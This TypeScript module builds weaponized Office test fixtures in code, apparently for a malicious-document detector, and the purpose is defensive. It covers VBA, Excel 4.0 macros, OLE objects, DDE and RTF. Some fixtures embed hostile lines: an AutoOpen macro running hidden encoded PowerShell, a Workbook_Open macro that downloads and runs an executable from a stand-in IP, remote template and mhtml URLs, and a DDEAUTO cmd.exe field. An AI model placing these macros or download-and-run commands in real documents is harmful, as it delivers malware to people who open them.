// Weaponized Office fixtures built in code, so that no binary sample is ever committed: VBA
// projects (Word 97 .doc, Excel-style, vbaProject.bin in a .docm), OOXML packages with remote
// relationships and DDE, an Excel 4.0 macro sheet, OLE packager and Equation Editor objects and
// RTF documents that carry them. Each is the smallest valid instance of its format that shows
// the technique; none contains a working exploit.
import { Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import CFB from 'cfb';
import { minimalPe } from './containers.ts';

const encoder = new TextEncoder();
const CHUNK = 4096;

// ---------------------------------------------------------------------------------------------
// MS-OVBA §2.4.1.3 compression, written from the specification's pseudocode (longest match,
// nearest on ties). Its output need not equal Office's byte for byte, only decompress the same.

/** `data` as an MS-OVBA CompressedContainer. */
export function compressOvba(data: Uint8Array): Uint8Array {
  const out: number[] = [0x01];
  for (let start = 0; start < data.length || (start === 0 && data.length === 0); start += CHUNK) {
    if (data.length === 0) break;
    out.push(...compressChunk(data, start, Math.min(start + CHUNK, data.length)));
  }
  return Uint8Array.from(out);
}

function compressChunk(data: Uint8Array, start: number, end: number): number[] {
  const chunk: number[] = [0, 0];
  const limit = 4098;
  let current = start;
  while (current < end && chunk.length < limit) {
    const flagIndex = chunk.length;
    chunk.push(0);
    let flags = 0;
    for (let bit = 0; bit < 8 && current < end && chunk.length < limit; bit++) {
      const { offset, length } = longestMatch(data, start, current, end);
      if (offset > 0) {
        if (chunk.length + 1 >= limit) {
          chunk.length = limit + 1; // does not fit: fall back to a raw chunk below
          break;
        }
        const bits = tokenBits(current - start);
        const token = ((offset - 1) << (16 - bits)) | (length - 3);
        chunk.push(token & 0xff, token >> 8);
        flags |= 1 << bit;
        current += length;
      } else {
        chunk.push(data[current++] ?? 0);
      }
    }
    chunk[flagIndex] = flags;
  }
  if (current < end || chunk.length > limit) {
    const raw = new Array<number>(CHUNK + 2).fill(0);
    for (let i = 0; i < end - start; i++) raw[i + 2] = data[start + i] ?? 0;
    raw[0] = 0xff;
    raw[1] = 0x3f; // size 4098, signature 0b011, flag 0 (raw)
    return raw;
  }
  const header = ((chunk.length - 3) & 0x0fff) | 0x3000 | 0x8000;
  chunk[0] = header & 0xff;
  chunk[1] = header >> 8;
  return chunk;
}

function tokenBits(difference: number): number {
  let bits = 4;
  while (1 << bits < difference) bits++;
  return bits;
}

function longestMatch(
  data: Uint8Array,
  chunkStart: number,
  current: number,
  end: number,
): { offset: number; length: number } {
  let bestLength = 0;
  let bestCandidate = 0;
  for (let candidate = current - 1; candidate >= chunkStart; candidate--) {
    let length = 0;
    while (current + length < end && data[current + length] === data[candidate + length]) length++;
    if (length > bestLength) {
      bestLength = length;
      bestCandidate = candidate;
    }
  }
  if (bestLength < 3) return { offset: 0, length: 0 };
  const maximum = (0xffff >> tokenBits(current - chunkStart)) + 3;
  return { offset: current - bestCandidate, length: Math.min(bestLength, maximum) };
}

// ---------------------------------------------------------------------------------------------
// VBA projects (MS-OVBA §2.3.4.2 dir stream, §2.3.4.3 module streams).

export interface VbaModule {
  name: string;
  source: string;
  /** Bytes of "performance cache" before the compressed source (MODULEOFFSET). */
  cacheBytes?: number;
}

/** The malicious AutoOpen module most fixtures carry. */
export const AUTOOPEN_SOURCE = [
  'Attribute VB_Name = "NewMacros"',
  'Sub AutoOpen()',
  '    Dim cmd As String',
  '    cmd = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"',
  '    Shell cmd, vbHide',
  'End Sub',
  '',
].join('\r\n');

function record(id: number, data: Uint8Array | number[]): number[] {
  const bytes = Array.from(data);
  const size = bytes.length;
  return [
    id & 0xff,
    id >> 8,
    size & 0xff,
    (size >> 8) & 0xff,
    (size >> 16) & 0xff,
    size >>> 24,
    ...bytes,
  ];
}

const u16 = (value: number): number[] => [value & 0xff, value >> 8];
const u32 = (value: number): number[] => [
  value & 0xff,
  (value >> 8) & 0xff,
  (value >> 16) & 0xff,
  value >>> 24,
];
const ansi = (text: string): number[] => Array.from(text, (c) => c.charCodeAt(0) & 0xff);
const utf16 = (text: string): number[] => Array.from(text).flatMap((c) => u16(c.charCodeAt(0)));

/** The decompressed `dir` stream describing `modules` (with one registered reference). */
export function dirStream(
  modules: readonly VbaModule[],
  streamNames?: readonly string[],
): Uint8Array {
  const bytes: number[] = [
    ...record(0x0001, u32(1)), // PROJECTSYSKIND: Win32
    ...record(0x0002, u32(0x409)), // PROJECTLCID
    ...record(0x0014, u32(0x409)), // PROJECTLCIDINVOKE
    ...record(0x0003, u16(1252)), // PROJECTCODEPAGE
    ...record(0x0004, ansi('Project')), // PROJECTNAME
    ...record(0x0005, []),
    ...record(0x0040, []), // PROJECTDOCSTRING + unicode
    ...record(0x0006, []),
    ...record(0x003d, []), // PROJECTHELPFILEPATH 1 and 2
    ...record(0x0007, u32(0)), // PROJECTHELPCONTEXT
    ...record(0x0008, u32(0)), // PROJECTLIBFLAGS
    // PROJECTVERSION: its Size field says 4 but 6 bytes follow (§2.3.4.2.1.11).
    0x09,
    0x00,
    ...u32(4),
    ...u32(0x5b2a1c4e),
    ...u16(0x0011),
    ...record(0x000c, []),
    ...record(0x003c, []), // PROJECTCONSTANTS + unicode
    ...record(0x0016, ansi('stdole')),
    ...record(0x003e, utf16('stdole')), // REFERENCENAME
    ...record(0x000d, [
      ...u32(0x5e),
      ...ansi(
        '*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\system32\\stdole2.tlb#OLE Automation',
      ),
      ...u32(0),
      ...u16(0),
    ]),
    ...record(0x000f, u16(modules.length)), // PROJECTMODULES
    ...record(0x0013, u16(0xffff)), // PROJECTCOOKIE
  ];
  modules.forEach((module, index) => {
    const stream = streamNames?.[index] ?? module.name;
    bytes.push(
      ...record(0x0019, ansi(module.name)),
      ...record(0x0047, utf16(module.name)),
      ...record(0x001a, ansi(stream)),
      ...record(0x0032, utf16(stream)),
      ...record(0x001c, []),
      ...record(0x0048, []),
      ...record(0x0031, u32(module.cacheBytes ?? 0)), // MODULEOFFSET
      ...record(0x001e, u32(0)),
      ...record(0x002c, u16(0xffff)),
      ...record(0x0021, []), // procedural module
      ...record(0x002b, []), // terminator
    );
  });
  bytes.push(...record(0x0010, [])); // dir terminator
  // record() writes Size as 4 bytes; the terminator's Reserved field is the same shape.
  return Uint8Array.from(bytes);
}

/** A module stream: `cacheBytes` of junk performance cache, then the compressed source. */
export function moduleStream(module: VbaModule): Uint8Array {
  const cache = new Uint8Array(module.cacheBytes ?? 0).fill(0xcc);
  const source = compressOvba(encoder.encode(module.source));
  const stream = new Uint8Array(cache.length + source.length);
  stream.set(cache);
  stream.set(source, cache.length);
  return stream;
}

type Cfb = ReturnType<typeof CFB.utils.cfb_new>;

/** Adds a VBA project (storage `storage`, e.g. `Macros/VBA`) to `cfb`. */
function addVbaProject(cfb: Cfb, storage: string, modules: readonly VbaModule[]): void {
  CFB.utils.cfb_add(cfb, `/${storage}/dir`, Buffer.from(compressOvba(dirStream(modules))));
  CFB.utils.cfb_add(cfb, `/${storage}/_VBA_PROJECT`, Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00]));
  for (const module of modules) {
    CFB.utils.cfb_add(cfb, `/${storage}/${module.name}`, Buffer.from(moduleStream(module)));
  }
  const parent = storage.split('/').slice(0, -1).join('/');
  CFB.utils.cfb_add(
    cfb,
    `/${parent === '' ? '' : `${parent}/`}PROJECT`,
    Buffer.from(
      `ID="{00000000-0000-0000-0000-000000000000}"\r\n${modules.map((m) => `Module=${m.name}`).join('\r\n')}\r\n`,
    ),
  );
}

function writeCfb(cfb: Cfb): Uint8Array {
  const written: unknown = CFB.write(cfb, { type: 'buffer' });
  if (!(written instanceof Uint8Array)) throw new Error('cfb.write did not return bytes');
  return new Uint8Array(written);
}

/** A Word 97 document whose `Macros/VBA` project runs PowerShell from AutoOpen. */
export function macroDoc(
  modules: readonly VbaModule[] = [{ name: 'NewMacros', source: AUTOOPEN_SOURCE, cacheBytes: 37 }],
): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/WordDocument', Buffer.from(wordFib(false)));
  CFB.utils.cfb_add(cfb, '/1Table', Buffer.alloc(64));
  addVbaProject(cfb, 'Macros/VBA', modules);
  return writeCfb(cfb);
}

/** An Excel 97 workbook with a `_VBA_PROJECT_CUR/VBA` project whose Workbook_Open downloads. */
export function macroXls(): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/Workbook', Buffer.from(biffWorkbook([])));
  addVbaProject(cfb, '_VBA_PROJECT_CUR/VBA', [
    {
      name: 'ThisWorkbook',
      cacheBytes: 120,
      source: [
        'Attribute VB_Name = "ThisWorkbook"',
        'Private Sub Workbook_Open()',
        '    URLDownloadToFile 0, "http://198.51.100.7/a.exe", Environ("TEMP") & "\\a.exe", 0, 0',
        '    CreateObject("WScript.Shell").Run Environ("TEMP") & "\\a.exe"',
        'End Sub',
      ].join('\r\n'),
    },
    {
      name: 'Module1',
      source:
        'Attribute VB_Name = "Module1"\r\nFunction Add(a, b)\r\n    Add = a + b\r\nEnd Function\r\n',
    },
  ]);
  return writeCfb(cfb);
}

/** A bare `vbaProject.bin` (VBA project at the root), as inside a .docm. */
export function vbaProjectBin(
  modules: readonly VbaModule[] = [{ name: 'NewMacros', source: AUTOOPEN_SOURCE }],
): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  addVbaProject(cfb, 'VBA', modules);
  return writeCfb(cfb);
}

/** A Word 97 FIB start: wIdent 0xA5EC, nFib, and the fEncrypted flag bit. */
function wordFib(encrypted: boolean): Uint8Array {
  const fib = new Uint8Array(64);
  fib.set([0xec, 0xa5, 0xc1, 0x00]);
  if (encrypted) fib[0x0b] = 0x01;
  return fib;
}

/** A Word 97 document with no macros and no objects. */
export function plainDoc(): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/WordDocument', Buffer.from(wordFib(false)));
  CFB.utils.cfb_add(cfb, '/1Table', Buffer.alloc(64));
  return writeCfb(cfb);
}

/** An encrypted Word 97 document (FIB fEncrypted). */
export function encryptedDoc(): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/WordDocument', Buffer.from(wordFib(true)));
  return writeCfb(cfb);
}

/** An agile-encrypted OOXML file: a CFB with EncryptionInfo and EncryptedPackage. */
export function encryptedOoxml(): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/EncryptionInfo', Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]));
  CFB.utils.cfb_add(cfb, '/EncryptedPackage', Buffer.alloc(256, 0x5a));
  return writeCfb(cfb);
}

// ---------------------------------------------------------------------------------------------
// Excel BIFF8 globals with BOUNDSHEET records (sheet type 1 = Excel 4.0 macro sheet).

export interface BiffSheet {
  name: string;
  /** 0 worksheet, 1 macro sheet. */
  type: number;
  /** 0 visible, 1 hidden, 2 very hidden. */
  state: number;
}

function biff(type: number, data: number[]): number[] {
  return [...u16(type), ...u16(data.length), ...data];
}

/** A BIFF8 workbook globals substream: BOF, one BOUNDSHEET per sheet, an Auto_Open name, EOF. */
export function biffWorkbook(sheets: readonly BiffSheet[], autoOpen = false): Uint8Array {
  const bytes = [
    ...biff(0x0809, [...u16(0x0600), ...u16(0x0005), ...u32(0), ...u32(0), ...u32(0)]),
  ];
  for (const sheet of sheets) {
    bytes.push(
      ...biff(0x0085, [
        ...u32(0),
        sheet.state,
        sheet.type,
        sheet.name.length,
        0,
        ...ansi(sheet.name),
      ]),
    );
  }
  if (autoOpen) {
    // NAME: fBuiltin, cch 1, then the built-in name code 0x01 (Auto_Open).
    bytes.push(
      ...biff(0x0018, [...u16(0x0020), 0, 1, ...u16(0), ...u16(0), ...u16(0), 0, 0, 0, 0, 0, 0x01]),
    );
  }
  bytes.push(...biff(0x000a, []));
  return Uint8Array.from(bytes);
}

/** An .xls whose hidden Excel 4.0 macro sheet auto-runs. */
export function xlmXls(): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  const sheets = [
    { name: 'Sheet1', type: 0, state: 0 },
    { name: 'Macro1', type: 1, state: 2 },
  ];
  CFB.utils.cfb_add(cfb, '/Workbook', Buffer.from(biffWorkbook(sheets, true)));
  return writeCfb(cfb);
}

// ---------------------------------------------------------------------------------------------
// OLE embedded objects: packager (Ole10Native) and Equation Editor.

export const EQUATION_CLSID = '0002CE02-0000-0000-C000-000000000046';

/** Packager native data (without the leading size): label, paths, then the file. */
export function packageNative(label: string, file: Uint8Array): Uint8Array {
  const path = `C:\\Users\\x\\Desktop\\${label}`;
  return Uint8Array.from([
    ...u16(2),
    ...ansi(label),
    0,
    ...ansi(path),
    0,
    ...u16(0),
    ...u16(3),
    ...u32(path.length + 1),
    ...ansi(path),
    0,
    ...u32(file.length),
    ...file,
  ]);
}

/** A `\x01Ole10Native` stream: its size, then the packager native data. */
export function ole10Native(label: string, file: Uint8Array): Uint8Array {
  const native = packageNative(label, file);
  return Uint8Array.from([...u32(native.length), ...native]);
}

function setClsid(cfb: Cfb, path: string, clsid: string): void {
  CFB.utils.cfb_gc(cfb);
  const index = cfb.FullPaths.findIndex((full) => full === path);
  const entry = cfb.FileIndex[index];
  if (entry === undefined) throw new Error(`no ${path}`);
  entry.clsid = clsidHex(clsid);
}

/** A CLSID as stored in a directory entry: Data1-3 little-endian, Data4 as is, in hex. */
export function clsidHex(clsid: string): string {
  const [a = '', b = '', c = '', d = '', e = ''] = clsid.split('-');
  const swap = (hex: string): string => hex.match(/../g)?.reverse().join('') ?? '';
  return (swap(a) + swap(b) + swap(c) + d + e).toLowerCase();
}

/** A Word 97 document with a packaged `invoice.exe` in its ObjectPool. */
export function packagerDoc(): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/WordDocument', Buffer.from(wordFib(false)));
  CFB.utils.cfb_add(
    cfb,
    '/ObjectPool/_1234567890/\u0001Ole10Native',
    Buffer.from(ole10Native('invoice.exe', minimalPe())),
  );
  CFB.utils.cfb_add(cfb, '/ObjectPool/_1234567890/\u0001CompObj', Buffer.from(compObj('Package')));
  return writeCfb(cfb);
}

/** A `\x01CompObj` stream naming `progId` (enough of MS-OLEDS §2.3.8 for a reader). */
function compObj(progId: string): Uint8Array {
  const user = `${progId} Object`;
  return Uint8Array.from([
    ...u32(0xfffe0001),
    ...u32(0x0a03),
    ...u32(0xffffffff),
    ...new Array<number>(16).fill(0),
    ...u32(user.length + 1),
    ...ansi(user),
    0,
    ...u32(0),
    ...u32(progId.length + 1),
    ...ansi(progId),
    0,
  ]);
}

/** An Equation Editor 3.0 object (what CVE-2017-11882 documents embed), as a bare CFB. */
export function equationObject(): Uint8Array {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/\u0001CompObj', Buffer.from(compObj('Equation.3')));
  CFB.utils.cfb_add(
    cfb,
    '/Equation Native',
    Buffer.from([0x1c, 0, 0, 0, 2, 0, 0x9e, 0xc4, 0xa9, 0, 0, 0, 0, 0, 0, 0]),
  );
  setClsid(cfb, 'Root Entry/', EQUATION_CLSID);
  return writeCfb(cfb);
}

/** An OLE object whose `\x01Ole` stream links to `url` through a URL moniker (CVE-2017-0199). */
export function linkedOleObject(url: string): Uint8Array {
  const urlMonikerClsid = [
    0xe0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0x00, 0xaa, 0x00, 0x4b, 0xa9, 0x0b,
  ];
  const urlBytes = [...utf16(url), 0, 0];
  const moniker = [...urlMonikerClsid, ...u32(urlBytes.length), ...urlBytes];
  const ole = [
    ...u32(0x02000001),
    ...u32(0x01),
    ...u32(0x01),
    ...u32(0),
    ...u32(moniker.length),
    ...moniker,
  ];
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/\u0001Ole', Buffer.from(ole));
  return writeCfb(cfb);
}

// ---------------------------------------------------------------------------------------------
// OOXML packages.

const DOCX_TYPES =
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const DOCM_TYPES = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n';
const REL_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

export async function zipOf(entries: Record<string, string | Uint8Array>): Promise<Uint8Array> {
  const writer = new ZipWriter(new Uint8ArrayWriter());
  for (const [name, content] of Object.entries(entries)) {
    const bytes = typeof content === 'string' ? encoder.encode(content) : content;
    await writer.add(name, new Uint8ArrayReader(bytes));
  }
  return writer.close();
}

function contentTypes(main: string, extra = ''): string {
  return (
    `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`
  );
}

function rels(relationships: string): string {
  return `${XML_HEAD}<Relationships xmlns="${REL_NS}">${relationships}</Relationships>`;
}

function documentXml(body: string): string {
  return (
    `${XML_HEAD}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ` +
    `xmlns:r="${OFFICE_REL}"><w:body>${body}</w:body></w:document>`
  );
}

const ROOT_RELS = rels(
  `<Relationship Id="rId1" Type="${OFFICE_REL}/officeDocument" Target="word/document.xml"/>`,
);

/** A harmless .docx with one paragraph and an ordinary external hyperlink. */
export function cleanDocx(): Promise<Uint8Array> {
  return zipOf({
    '[Content_Types].xml': contentTypes(DOCX_TYPES),
    '_rels/.rels': ROOT_RELS,
    'word/document.xml': documentXml(
      '<w:p><w:r><w:t>Quarterly report attached, see </w:t></w:r><w:hyperlink r:id="rId5"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>',
    ),
    'word/_rels/document.xml.rels': rels(
      `<Relationship Id="rId5" Type="${OFFICE_REL}/hyperlink" Target="https://www.example.com/" TargetMode="External"/>`,
    ),
  });
}

/** A .docm: macro-enabled content type and `word/vbaProject.bin` with the AutoOpen module. */
export function macroDocm(): Promise<Uint8Array> {
  return zipOf({
    '[Content_Types].xml': contentTypes(
      DOCM_TYPES,
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
    '_rels/.rels': ROOT_RELS,
    'word/document.xml': documentXml('<w:p><w:r><w:t>Enable content to view</w:t></w:r></w:p>'),
    'word/_rels/document.xml.rels': rels(
      `<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
    ),
    'word/vbaProject.bin': vbaProjectBin(),
  });
}

/** The CVE-2021-40444 shape: an oleObject relationship to a remote `mhtml:` URL. */
export const REMOTE_OLE_URL =
  'mhtml:http://203.0.113.9/word.html!x-usc:http://203.0.113.9/word.html';

export function remoteOleDocx(): Promise<Uint8Array> {
  return zipOf({
    '[Content_Types].xml': contentTypes(DOCX_TYPES),
    '_rels/.rels': ROOT_RELS,
    'word/document.xml': documentXml('<w:p><w:r><w:t>Loading…</w:t></w:r></w:p>'),
    'word/_rels/document.xml.rels': rels(
      `<Relationship Id="rId9" Type="${OFFICE_REL}/oleObject" Target="${REMOTE_OLE_URL.replace(/&/g, '&amp;')}" TargetMode="External"/>`,
    ),
  });
}

/** Remote template injection: settings.xml.rels attachedTemplate to an http URL. */
export const REMOTE_TEMPLATE_URL = 'http://198.51.100.20/template.dotm';

export function remoteTemplateDocx(): Promise<Uint8Array> {
  return zipOf({
    '[Content_Types].xml': contentTypes(DOCX_TYPES),
    '_rels/.rels': ROOT_RELS,
    'word/document.xml': documentXml('<w:p><w:r><w:t>Hello</w:t></w:r></w:p>'),
    'word/_rels/settings.xml.rels': rels(
      `<Relationship Id="rId1" Type="${OFFICE_REL}/attachedTemplate" Target="${REMOTE_TEMPLATE_URL}" TargetMode="External"/>`,
    ),
  });
}

/** A DDEAUTO field split over runs, as in the 2017 DDE campaigns, plus an embedded object. */
export function ddeDocx(): Promise<Uint8Array> {
  return zipOf({
    '[Content_Types].xml': contentTypes(DOCX_TYPES),
    '_rels/.rels': ROOT_RELS,
    'word/document.xml': documentXml(
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>' +
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>' +
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
    'word/embeddings/oleObject1.bin': equationObject(),
  });
}

// ---------------------------------------------------------------------------------------------
// RTF.

const hex = (bytes: Uint8Array | number[]): string =>
  Array.from(bytes, (b) => b.toString(16).padStart(2, '0')).join('');

/** An OLE1 EmbeddedObject (MS-OLEDS §2.2.4): header, class name, empty topic/item, native data. */
export function ole1Object(className: string, native: Uint8Array, formatId = 2): Uint8Array {
  return Uint8Array.from([
    ...u32(0x00000501),
    ...u32(formatId),
    ...u32(className.length + 1),
    ...ansi(className),
    0,
    ...u32(0),
    ...u32(0),
    ...u32(native.length),
    ...native,
  ]);
}

/** `hex` wrapped at 64 columns with CRLF, as Word writes it. */
function wrapHex(text: string): string {
  return text.replace(/.{1,64}/g, (line) => `${line}\r\n`);
}

function rtfDocument(body: string): Uint8Array {
  return encoder.encode(
    `{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}\r\n${body}\r\n}`,
  );
}

/** CVE-2017-11882 shape: an Equation.3 object with an OLE2 CFB as native data. */
export function equationRtf(): Uint8Array {
  const data = hex(ole1Object('Equation.3', equationObject()));
  return rtfDocument(
    `{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata ${wrapHex(data)}}}`,
  );
}

/** A Package object carrying `payload.exe`, with junk control words after \objdata. */
export function packageRtf(): Uint8Array {
  const data = hex(ole1Object('Package', packageNative('payload.exe', minimalPe())));
  return rtfDocument(
    `{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata\\fakeword1\\bliptag77 ${wrapHex(data).replace(/0105/, '01\r\n 05')}}}`,
  );
}

/** The CVE-2010-3333 shape: a shape property pFragments with a hex value. */
export function pFragmentsRtf(): Uint8Array {
  return rtfDocument(
    '{\\shp{\\*\\shpinst{\\sp{\\sn pFragments}{\\sv 1;1;1111111111111111;ffffffff' +
      '4141414141414141}}}}',
  );
}

/** A plain letter with a picture (hex, legitimately) and no objects. */
export function cleanRtf(): Uint8Array {
  return rtfDocument(
    '\\pard\\f0 Dear customer,\\par Please find the invoice attached.\\par' +
      `{\\pict\\pngblip\\picw10\\pich10 ${wrapHex('89504e470d0a1a0a'.repeat(300))}}\\par`,
  );
}
